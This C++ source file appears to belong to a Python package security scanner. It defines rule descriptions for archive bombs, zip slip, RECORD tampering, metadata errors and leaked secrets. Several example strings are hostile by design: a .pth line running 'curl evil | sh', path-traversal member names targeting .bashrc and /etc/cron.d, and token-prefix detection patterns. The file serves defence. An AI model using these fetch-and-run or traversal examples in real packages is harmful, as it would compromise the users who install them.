#include "moat/dist/rules.hpp"

#include <algorithm>
#include <array>

namespace moat {

namespace {

constexpr std::string_view kWheelSpec =
    "https://packaging.python.org/en/latest/specifications/binary-distribution-format/";
constexpr std::string_view kCheckWheelContents = "https://github.com/jwodder/check-wheel-contents";
constexpr std::string_view kCoreMetadata = "https://packaging.python.org/en/latest/specifications/core-metadata/";

constexpr auto kRules = std::to_array<RuleDoc>({
    // Archive safety.
    {"MOAT-A001", "archive-bomb",
     "The archive crosses a reading limit: too many entries, an entry or the total too large once "
     "uncompressed, or a compression ratio no real package has. Reading stops at the limit.",
     "Decompression bombs exhaust memory and disk of installers, mirrors and scanners.",
     "a 1 MB wheel whose single member inflates to 1 GB of zeros",
     "Ship real content. Raise the limits (--max-entries, --max-entry-size, --max-total-size, --max-ratio) "
     "only for artifacts you trust.",
     "CWE-409: Improper Handling of Highly Compressed Data"},
    {"MOAT-A002", "absolute-path-in-archive",
     "An archive member name is absolute (/etc/x, C:\\x, \\\\server\\x).",
     "Naive extractors write absolute members anywhere on the file system.", "/etc/cron.d/evil",
     "Archive members must be relative paths.", "CWE-22: Path Traversal"},
    {"MOAT-A003", "path-traversal-in-archive", "An archive member name has a `..` component.",
     "Extracting it writes outside the target directory (zip slip).", "pkg/../../.bashrc",
     "Remove `..` from member names.", "CWE-22: Path Traversal\nhttps://security.snyk.io/research/zip-slip-vulnerability"},
    {"MOAT-A004", "symlink-in-archive",
     "A member is a symbolic link. Links that are absolute or leave the archive root are high severity.",
     "Links let later members or the installed code read or overwrite files outside the package.",
     "pkg/data -> /home/user/.ssh", "Ship regular files instead of links.", "CWE-59: Link Following"},
    {"MOAT-A005", "hardlink-in-archive", "A member is a hard link to another path.",
     "Hard links to paths outside the archive let extraction alias arbitrary files.", "pkg/x hardlinked to /etc/passwd",
     "Ship regular files.", "CWE-59: Link Following"},
    {"MOAT-A006", "special-file-in-archive", "A member is a device node, FIFO or socket.",
     "No Python package needs one; extraction as root creates device nodes.", "dev/sda block device",
     "Remove it.", "CWE-73"},
    {"MOAT-A007", "duplicate-archive-entry", "Two members have the same path.",
     "Tools disagree about which copy wins, so what was reviewed is not what gets installed.",
     "pkg/__init__.py stored twice with different content", "Build the archive with one member per path.",
     "https://www.python.org/dev/peps/pep-0427/"},
    {"MOAT-A008", "case-insensitive-collision",
     "Two member paths differ only in letter case.",
     "On Windows and macOS one silently overwrites the other, so the installed code differs by platform.",
     "pkg/Util.py and pkg/util.py", "Rename one of them.", ""},
    // Wheel structure and RECORD.
    {"MOAT-D001", "invalid-wheel-filename",
     "The wheel file name does not follow {name}-{version}(-{build})?-{python}-{abi}-{platform}.whl, or its "
     "name/version disagree with the .dist-info directory or METADATA.",
     "Installers parse the file name to choose wheels; a wrong one installs the wrong thing or fails.",
     "My-Pkg-1.0-py3-none-any.whl holding mypkg-2.0.dist-info", "Let the build backend name the wheel.",
     kWheelSpec},
    {"MOAT-D002", "bad-dist-info",
     "No .dist-info directory, more than one, one whose name is not {name}-{version} of the wheel, or a "
     ".data directory with the wrong name or an unknown scheme.",
     "Installers refuse such wheels or install metadata under the wrong name.", "two *.dist-info directories",
     "Build the wheel with a standard backend.", kWheelSpec},
    {"MOAT-D003", "bad-wheel-file",
     "The .dist-info/WHEEL file is missing or invalid: Wheel-Version not 1.x, Root-Is-Purelib not true/false, "
     "Tag lines that disagree with the file name.",
     "Installers use WHEEL to decide how and whether to install.", "Wheel-Version: 2.0",
     "Regenerate the wheel.", kWheelSpec},
    {"MOAT-D004", "record-missing", "The wheel has no .dist-info/RECORD.",
     "Without RECORD nothing ties the installed files to the built ones, and uninstall cannot work.",
     "a wheel zipped by hand", "Build with a standard backend.",
     "https://packaging.python.org/en/latest/specifications/recording-installed-packages/"},
    {"MOAT-D005", "record-malformed",
     "A RECORD row is malformed: not path,hash,size; an unknown or weak (md5, sha1) hash; a hash that is not "
     "URL-safe base64 without padding; an absolute or `..` path.",
     "Malformed rows hide files from verification.", "pkg/mod.py,md5=abc,12", "Regenerate RECORD.",
     kWheelSpec},
    {"MOAT-D006", "record-mismatch",
     "A file's SHA-256 or size differs from its RECORD row.",
     "The wheel was modified after it was built (tampering or a broken rebuild); pip refuses it.",
     "one byte changed in pkg/mod.py", "Rebuild the wheel; find out who changed it.", "CWE-354: Improper Validation of Integrity Check Value\nhttps://pip.pypa.io/en/stable/topics/secure-installs/"},
    {"MOAT-D007", "file-not-in-record", "A file in the wheel has no RECORD row.",
     "Unlisted files escape verification and uninstall: a classic way to slip code into a wheel.",
     "pkg/extra.pth added after the build", "Rebuild; every file must be in RECORD.", kWheelSpec},
    {"MOAT-D008", "record-file-missing", "RECORD lists a file that the wheel does not contain.",
     "The wheel is incomplete or was edited after it was built.", "RECORD row pkg/gone.py", "Rebuild the wheel.",
     kWheelSpec},
    {"MOAT-D009", "pth-executes-code",
     "A .pth file has a line starting with `import`, which site.py executes at every interpreter start.",
     "Code in .pth files runs for every Python program in the environment, before any import, without the "
     "package ever being imported: a favourite persistence trick of malicious packages.",
     "import os; os.system('curl evil | sh')", "Use entry points or explicit imports instead of .pth code.",
     "https://docs.python.org/3/library/site.html"},
    // Core metadata (what twine check checks).
    {"MOAT-M001", "metadata-missing", "The artifact has no METADATA (wheel) or PKG-INFO (sdist).",
     "PyPI rejects it and installers cannot resolve it.", "a wheel without .dist-info/METADATA",
     "Build with a standard backend.", kCoreMetadata},
    {"MOAT-M002", "metadata-invalid",
     "Core metadata is malformed: unknown Metadata-Version (2.0 is invalid), a missing Name or Version, an "
     "invalid name or PEP 440 version, a field not allowed for its Metadata-Version, a malformed header.",
     "twine check and PyPI reject the upload; installers may misread it.", "Metadata-Version: 2.0",
     "Upgrade the build backend.", kCoreMetadata},
    {"MOAT-M003", "metadata-name-mismatch",
     "Name or Version in the metadata disagree with the file name.",
     "Installers and indexes key on the file name; a mismatch installs something other than what was named.",
     "foo-1.0-py3-none-any.whl with Version: 1.1", "Rebuild.", kCoreMetadata},
    {"MOAT-M004", "invalid-requirement", "A Requires-Dist value is not a valid PEP 508 requirement.",
     "Installers fail or, worse, skip the dependency.", "Requires-Dist: requests >>= 2",
     "Fix the dependency specification.", "https://peps.python.org/pep-0508/"},
    {"MOAT-M005", "invalid-license-expression",
     "License-Expression is not a valid SPDX expression, or License-File points outside the archive or at a "
     "file that is not there (PEP 639).",
     "PyPI rejects invalid expressions; missing licence files break redistribution terms.",
     "License-Expression: MIT or and Apache", "Use SPDX identifiers joined by AND/OR/WITH.",
     "https://peps.python.org/pep-0639/"},
    {"MOAT-M006", "description-content-type",
     "Description-Content-Type is missing (PyPI then assumes reStructuredText) or is not text/plain, "
     "text/x-rst or text/markdown; or the long description is missing.",
     "The project page renders wrongly or the upload fails (twine check warns).",
     "Description-Content-Type: text/md", "Set it to text/markdown or text/x-rst.",
     "https://packaging.python.org/en/latest/guides/making-a-pypi-friendly-readme/"},
    {"MOAT-M007", "description-rst-error",
     "The long description is reStructuredText (Description-Content-Type text/x-rst, missing, or not Markdown or "
     "plain text) and docutils would report a warning or error rendering it, which makes readme_renderer, and so "
     "`twine check` and PyPI's upload, fail. Checked: title underlines/overlines too short or mismatched, "
     "inconsistent title levels, unknown directives and roles (Sphinx ones such as toctree or :func:), the raw and "
     "include directives readme_renderer disables, inline literal/emphasis/strong/interpreted text without its "
     "end-string, unexpected indentation, explicit markup, bullet lists and literal blocks that end without a "
     "blank line, a missing literal block after ::, malformed grid tables.",
     "PyPI refuses the upload (\"The description failed to render\") or the project page shows raw markup.",
     "Title\n===\n\nSee :func:`main` and ``code.",
     "Fix the markup (run `python -m readme_renderer README.rst`), or declare text/markdown if it is Markdown.",
     "https://github.com/pypa/readme_renderer\nhttps://docutils.sourceforge.io/docs/ref/rst/restructuredtext.html"},
    // check-wheel-contents.
    {"MOAT-W001", "wheel-contains-pyc", "The wheel contains .pyc or .pyo files.",
     "Bytecode is interpreter-specific, regenerated at install, and can hide code that differs from the source.",
     "pkg/__pycache__/mod.cpython-311.pyc", "Exclude bytecode from the build.", kCheckWheelContents},
    {"MOAT-W002", "wheel-duplicate-files", "Two or more files have identical, non-trivial contents.",
     "Usually a packaging mistake (a module shipped twice, a stray build directory).", "pkg/a.py == build/lib/pkg/a.py",
     "Fix the package list.", kCheckWheelContents},
    {"MOAT-W003", "wheel-toplevel-non-module",
     "A file that is not a module (.py, extension module, .pth) sits at the top of purelib/platlib.",
     "It lands directly in site-packages and clashes with other projects.", "README.md at the wheel root",
     "Put data files inside the package.", kCheckWheelContents},
    {"MOAT-W004", "wheel-invalid-module-name",
     "A module path has a component that is not a valid Python identifier or is a keyword.",
     "The module cannot be imported.", "pkg/my-module.py", "Rename it.", kCheckWheelContents},
    {"MOAT-W005", "wheel-common-toplevel-name",
     "A common top-level name (test, tests, docs, src, build, data, lib, venv, ...) is installed at the "
     "library top level.",
     "It clashes with every other project that makes the same mistake, and one overwrites the other.",
     "tests/__init__.py at the wheel root", "Exclude it from the build or move it into the package.",
     kCheckWheelContents},
    {"MOAT-W006", "wheel-toplevel-init", "__init__.py at the top of the library.",
     "It is installed as site-packages/__init__.py, which makes no sense.", "__init__.py at the wheel root",
     "Fix the package layout.", kCheckWheelContents},
    {"MOAT-W007", "wheel-empty-library", "purelib/platlib contain no files.", "The wheel installs nothing importable.",
     "a wheel with only .dist-info and data", "Check the package configuration.", kCheckWheelContents},
    {"MOAT-W008", "wheel-only-dist-info", "The wheel contains nothing besides its .dist-info directory.",
     "It installs nothing.", "mypkg-1.0.dist-info/* only", "Check the package configuration.", kCheckWheelContents},
    {"MOAT-W009", "wheel-multiple-toplevel",
     "More than one top-level library entry (not counting .pth files and _-prefixed names).",
     "Usually a stray directory got packaged.", "mypkg/ and utils/ at the top", "Ship one top-level package.",
     kCheckWheelContents},
    {"MOAT-W010", "wheel-toplevel-no-modules", "A top-level directory contains no Python modules.",
     "Data directories at the top of site-packages clash with other projects.", "assets/logo.png at the top",
     "Move data into the package.", kCheckWheelContents},
    {"MOAT-W101", "wheel-missing-package-files",
     "With --package or --src-dir: a file of the local package tree is not in the wheel's library "
     "(purelib/platlib). Names matching --package-omit (default .*, CVS, RCS, *.pyc, *.pyo, *.egg-info) are "
     "not part of the tree.",
     "The build left out modules or data the package needs: the installed package fails at import or run time.",
     "--package src/mypkg with src/mypkg/templates/base.html, which the wheel lacks",
     "Include the files (package-data, MANIFEST.in with include_package_data, or the backend's include setting).",
     kCheckWheelContents},
    {"MOAT-W102", "wheel-extra-package-files",
     "With --package or --src-dir: a file of the wheel's library (purelib/platlib) is not in the local package "
     "tree.",
     "Something besides the package got built in: stale build/ leftovers, generated or test files, files of "
     "another project.",
     "--package src/mypkg and the wheel holds mypkg/old_module.py from a stale build/ directory",
     "Build from a clean checkout (remove build/) and check the backend's include/exclude settings.",
     kCheckWheelContents},
    {"MOAT-W201", "wheel-toplevel-missing", "A top-level name declared with --toplevel is not in the wheel.",
     "The wheel is missing the package it should ship.", "--toplevel mypkg and no mypkg/",
     "Check the package configuration.", kCheckWheelContents},
    {"MOAT-W202", "wheel-toplevel-undeclared", "A top-level entry not declared with --toplevel is present.",
     "Something else got packaged.", "--toplevel mypkg and tests/ present", "Exclude it.", kCheckWheelContents},
    // sdists.
    {"MOAT-S001", "sdist-layout",
     "The sdist does not have a single top-level {name}-{version}/ directory holding PKG-INFO, or its "
     "name/version disagree with the file name.",
     "Installers and PyPI rely on this layout.", "files at the archive root", "Build with `python -m build --sdist`.",
     "https://packaging.python.org/en/latest/specifications/source-distribution-format/"},
    {"MOAT-S002", "pkg-info-pyproject-mismatch",
     "PKG-INFO and pyproject.toml's [project] table disagree on name, version or requires-python.",
     "The sdist was edited after the build or built from another tree.", "version = \"1.1\" vs Version: 1.0",
     "Rebuild the sdist from the tree.",
     "https://packaging.python.org/en/latest/specifications/pyproject-toml/"},
    {"MOAT-S003", "sensitive-file-shipped",
     "A file that should never be published is in the artifact: .pypirc, .env, .netrc, private keys, "
     "cloud credentials, a .git/ directory, shell history.",
     "Everyone who downloads the package gets the credentials or the repository history.",
     "mypkg-1.0/.pypirc", "Remove it, rotate what it held, and exclude it in MANIFEST.in or the backend config.",
     "CWE-538: Insertion of Sensitive Information into Externally-Accessible File"},
    {"MOAT-S004", "editor-backup-shipped", "Editor backups or OS junk: *~, *.swp, *.bak, *.orig, .DS_Store.",
     "They may hold old code or secrets and bloat the package.", "mypkg/settings.py~", "Exclude them.", ""},
    {"MOAT-S005", "large-binary-shipped", "A binary file over 10 MB in a source distribution.",
     "Source distributions should hold source; large opaque binaries cannot be reviewed.",
     "mypkg-1.0/data/model.bin (120 MB)", "Download data at run time or ship it separately.", ""},
    // conda.
    {"MOAT-C001", "conda-metadata-invalid",
     "info/index.json or info/paths.json is missing or invalid, the .conda metadata.json is not format 2, "
     "or index.json's name/version/build disagree with the file name.",
     "conda cannot verify or install the package correctly.", "a .conda without info/paths.json",
     "Build with conda-build or rattler-build.",
     "https://docs.conda.io/projects/conda-build/en/latest/resources/package-spec.html"},
    {"MOAT-C002", "conda-paths-mismatch", "A file's SHA-256 or size differs from its info/paths.json entry.",
     "The package was modified after it was built.", "lib/python3.11/site-packages/pkg/mod.py edited",
     "Rebuild; find out who changed it.", "CWE-354"},
    {"MOAT-C003", "conda-file-not-in-paths", "A file in the package is not listed in info/paths.json.",
     "Unlisted files escape verification.", "an extra .pth file", "Rebuild.", ""},
    {"MOAT-C004", "conda-paths-file-missing", "info/paths.json (or info/files) lists a file that is not in the package.",
     "The package is incomplete or edited.", "", "Rebuild.", ""},
    // Installed environments.
    {"MOAT-E001", "installed-file-modified",
     "An installed file's SHA-256 or size differs from its distribution's RECORD.",
     "Someone changed installed code after installation: tampering, or a local patch nobody tracks.",
     "site-packages/requests/api.py edited", "Reinstall the distribution and find out who changed it.", "CWE-354"},
    {"MOAT-E002", "installed-file-missing", "A file listed in an installed distribution's RECORD is gone.",
     "The installation is damaged or was partly removed.", "", "Reinstall the distribution.", ""},
    // Secrets.
    {"MOAT-SEC001", "pypi-token",
     "A PyPI API token (pypi- followed by a base64url macaroon that decodes as one).",
     "Anyone with it can upload releases of the projects it is scoped to.", "password = pypi-AgEIcHlwaS5vcmc...",
     "Revoke it on pypi.org, then use Trusted Publishing.", "https://docs.pypi.org/api/secrets/"},
    {"MOAT-SEC002", "github-token", "A GitHub personal access, OAuth, app or refresh token (ghp_, gho_, ghu_, ghs_, "
     "ghr_, github_pat_).",
     "It grants access to repositories and often to publishing workflows.", "GITHUB_TOKEN = \"ghp_...\"",
     "Revoke it in GitHub settings; use the workflow's GITHUB_TOKEN.",
     "https://docs.github.com/en/code-security/secret-scanning"},
    {"MOAT-SEC003", "gitlab-token", "A GitLab token (glpat-, gldt-, glrt-, glptt-, GR1348941...).",
     "It grants API or registry access to GitLab projects.", "glpat-xxxxxxxxxxxxxxxxxxxx", "Revoke it in GitLab.",
     "https://docs.gitlab.com/ee/security/token_overview.html"},
    {"MOAT-SEC004", "aws-credentials", "An AWS access key id (AKIA/ASIA...) or a secret access key assignment.",
     "AWS keys give access to cloud resources and bills.", "aws_access_key_id = AKIA...", "Deactivate the key in IAM.",
     "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html"},
    {"MOAT-SEC005", "gcp-credentials", "A Google API key (AIza...) or a service-account key file.",
     "They grant access to Google Cloud resources.", "\"type\": \"service_account\", \"private_key\": ...",
     "Delete the key in the Cloud console.", "https://cloud.google.com/docs/authentication/api-keys"},
    {"MOAT-SEC006", "azure-credentials", "An Azure storage account key (AccountKey=...) or an Entra ID client secret.",
     "They grant access to Azure storage or applications.", "DefaultEndpointsProtocol=https;AccountKey=...",
     "Rotate the key in the Azure portal.", ""},
    {"MOAT-SEC007", "slack-token", "A Slack token (xoxb-, xoxp-, xoxa-, xoxr-, xoxs-) or incoming-webhook URL.",
     "It lets anyone post to or read the workspace.", "xoxb-1234-...", "Revoke it in the Slack app settings.", ""},
    {"MOAT-SEC008", "private-key", "A PEM or OpenSSH private key block.",
     "Whoever has the key can impersonate its owner (servers, signing, TLS).", "-----BEGIN RSA PRIVATE KEY-----",
     "Remove it, rotate the key pair.", "CWE-321"},
    {"MOAT-SEC009", "high-entropy-credential",
     "A credential-like name (password, secret, token, api_key, ...) assigned a random-looking literal.",
     "Hard-coded credentials leak with every copy of the code.", "API_KEY = \"f8Jq2LxR9vTz4mWc7bN1\"",
     "Read credentials from the environment or a secret store.", "CWE-798: Use of Hard-coded Credentials"},
});

}  // namespace

std::span<const RuleDoc> dist_rule_docs() { return kRules; }

}  // namespace moat

namespace moat::dist {

const RuleDoc* find_rule(std::string_view rule_id) {
  const auto found = std::ranges::find(kRules, rule_id, &RuleDoc::id);
  return found == kRules.end() ? nullptr : &*found;
}

Finding make_finding(std::string_view rule_id, Severity severity, std::string path, std::string message,
                     std::optional<int> cwe, Confidence confidence) {
  Finding finding;
  finding.rule_id = std::string(rule_id);
  if (const RuleDoc* doc = find_rule(rule_id); doc != nullptr) finding.title = std::string(doc->title);
  finding.message = std::move(message);
  finding.severity = severity;
  finding.confidence = confidence;
  finding.cwe = cwe;
  finding.location.path = std::move(path);
  finding.category = rule_id.starts_with("MOAT-SEC") ? Category::secret : Category::artifact;
  return finding;
}

std::string inside(std::string_view archive_display, std::string_view entry_path) {
  std::string out(archive_display);
  out.append("!/").append(entry_path);
  return out;
}

}  // namespace moat::dist
